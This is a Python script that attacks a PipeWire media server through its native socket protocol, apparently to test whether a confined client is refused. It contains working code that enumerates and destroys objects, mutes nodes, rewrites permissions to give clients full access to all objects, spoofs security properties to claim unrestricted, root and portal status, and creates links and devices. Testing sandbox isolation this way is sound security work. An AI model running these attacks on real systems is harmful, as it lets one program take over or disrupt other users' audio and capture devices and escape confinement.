"""Attacks on PipeWire by its native protocol; prints what came of each as one line of words.

Attacks on objects take them as NUMBER:KIND, which the attack "list" prints where all are seen: on the host.
"""

import os
import socket
import struct
import sys

READ, WRITE, EXECUTE, METADATA = 0o400, 0o200, 0o100, 0o10
ANY, NUMBERS = -1, range(300)
PROPS, OBJECT_PROPS, PROP_MUTE = 2, 0x40002, 0x10004


def value(kind, content):
    return struct.pack("=II", len(content), kind) + content + b"\0" * (-len(content) % 8)


class Raw(bytes):
    """A value in the protocol's form."""


def silence():
    """Props with which a node is silent."""
    switch = value(2, struct.pack("=i", 1))
    return Raw(value(15, struct.pack("=IIII", OBJECT_PROPS, PROPS, PROP_MUTE, 0) + switch))


def pod(item):
    if isinstance(item, Raw):
        return bytes(item)
    if isinstance(item, int):
        return value(4, struct.pack("=i", item))
    if isinstance(item, str):
        return value(8, item.encode() + b"\0")
    if isinstance(item, dict):
        pairs = [text for pair in item.items() for text in pair]
        return pod((len(item), *pairs))
    return value(14, b"".join(map(pod, item)))


def parsed(data):
    items = []
    while len(data) >= 8:
        size, kind = struct.unpack("=II", data[:8])
        content, data = data[8 : 8 + size], data[8 + size + -size % 8 :]
        if kind == 4:
            items.append(struct.unpack("=i", content)[0])
        elif kind == 8:
            items.append(content[:-1].decode(errors="replace"))
        elif kind == 14:
            items.append(parsed(content))
        else:
            items.append(None)
    return items


class Server:
    """A connection; objects 0 to 2 are core, client and registry."""

    def __init__(self):
        directory = os.environ.get("PIPEWIRE_RUNTIME_DIR") or os.environ["XDG_RUNTIME_DIR"]
        path = directory + "/" + os.environ.get("PIPEWIRE_REMOTE", "pipewire-0")
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.settimeout(20)
        self.socket.connect(path)
        self.sent, self.next, self.globals, self.errors = 0, 3, {}, []
        self.call(0, 1, 3)
        self.call(1, 2, {"application.name": "attacker"})
        self.call(0, 5, 3, 2)
        self.wait()

    def call(self, target, opcode, *fields):
        body = pod(fields)
        header = struct.pack("=IIII", target, opcode << 24 | len(body), self.sent, 0)
        self.socket.sendall(header + body)
        self.sent += 1

    def read(self, length):
        data = b""
        while len(data) < length:
            more = self.socket.recv(length - len(data))
            if not more:
                raise EOFError
            data += more
        return data

    def wait(self):
        """Until all is answered; what was refused is in errors."""
        self.errors = []
        self.call(0, 2, 0, 1000 + self.sent)
        expected = 999 + self.sent
        while True:
            target, word, _, _ = struct.unpack("=IIII", self.read(16))
            opcode, body = word >> 24, parsed(self.read(word & 0xFFFFFF))[0]
            if (target, opcode) == (0, 1) and body[1] == expected:
                return
            if (target, opcode) == (0, 3):
                self.errors.append(body[3])
            if (target, opcode) == (2, 0):
                self.globals[body[0]] = (body[2].rsplit(":", 1)[1], body[4])
            if (target, opcode) == (2, 1):
                self.globals.pop(body[0], None)

    def attempt(self, target, opcode, *fields):
        self.call(target, opcode, *fields)
        self.wait()
        return "refused" if self.errors else "done"

    def attempt_new(self, target, opcode, *fields):
        """With a new object, whose number is the next one for the server, too, whatever comes of it."""
        said = self.attempt(target, opcode, *fields, self.next)
        self.next += 1
        return said

    def bind(self, number, kind):
        return self.attempt_new(2, 1, number, f"PipeWire:Interface:{kind}", 3)

    def permit(self, client):
        """Has a client get everything: what is any object, and each by its number."""
        everything = READ | WRITE | EXECUTE | METADATA
        entries = [item for number in (ANY, *NUMBERS) for item in (number, everything)]
        return self.attempt(client, 4, 1 + len(NUMBERS), *entries)

    def create(self, factory, kind, properties):
        return self.attempt_new(0, 6, factory, f"PipeWire:Interface:{kind}", 3, properties)


def names(server):
    """What is seen, as kinds and names."""
    keys = ("node.name", "factory.name", "metadata.name", "application.name", "core.name")
    seen = set()
    for kind, properties in server.globals.values():
        texts = dict(zip(properties[1::2], properties[2::2]))
        seen.add(kind + ":" + next((texts[key] for key in keys if key in texts), "-"))
    return " ".join(sorted(seen))


def objects(words):
    """Of words such as 34:Node."""
    return [(int(number), kind) for number, kind in (word.split(":") for word in words)]


def on_each(server, targets, method, *fields):
    """What comes of calling a method of each."""
    said = []
    for number, kind in targets:
        new = server.next
        bound = server.bind(number, kind)
        said.append(bound if bound == "refused" else server.attempt(new, method, *fields))
    return " ".join(said)


def main():
    attack, targets = sys.argv[1], objects(sys.argv[2:])
    server = Server()
    if attack == "see":
        print(names(server))
    elif attack == "list":
        print(" ".join(f"{number}:{kind}" for number, (kind, _) in sorted(server.globals.items())))
    elif attack == "bind":
        print(" ".join(server.bind(number, kind) for number, kind in targets))
    elif attack == "destroy":
        print(" ".join(server.attempt(2, 2, number) for number, _ in targets))
    elif attack == "mute":
        print(on_each(server, targets, 4, Raw(value(3, struct.pack("=I", PROPS))), 0, silence()))
    elif attack == "permissions":
        said = server.permit(1)
        server.wait()
        print(said, names(server))
    elif attack == "accomplice":
        # For each client, whatever its number, its own first one among them.
        other, said = Server(), "refused"
        for number in NUMBERS:
            new = other.next
            if other.bind(number, "Client") == "done" and other.permit(new) == "done":
                said = "done"
        server.wait()
        print(said, names(server))
    elif attack == "properties":
        server.attempt(1, 2, {
            "pipewire.access": "unrestricted", "pipewire.client.access": "unrestricted", "media.category": "Manager",
            "pipewire.sec.softwarecontainer.media": "playback,capture,camera", "pipewire.sec.engine": "none",
            "pipewire.sec.pid": "1", "pipewire.sec.uid": "0", "pipewire.access.portal.is_portal": "yes"})
        server.wait()
        print(names(server))
    elif attack == "create":
        tried = {
            "link-factory": ("Link", {"link.output.node": "28", "link.input.node": "29"}),
            "metadata": ("Metadata", {"metadata.name": "default"}),
            "spa-node-factory": ("Node", {"factory.name": "support.null-audio-sink"}),
            "spa-device-factory": ("Device", {"factory.name": "api.alsa.enum.udev"}),
            "adapter": ("Node", {"factory.name": "support.null-audio-sink", "media.class": "Audio/Sink"}),
            "client-device": ("Device", {}),
            "session": ("Session", {}),
        }
        print(" ".join(f"{name}:{server.create(name, *what)}" for name, what in tried.items()))
    else:
        sys.exit(f"no attack {attack}")


main()
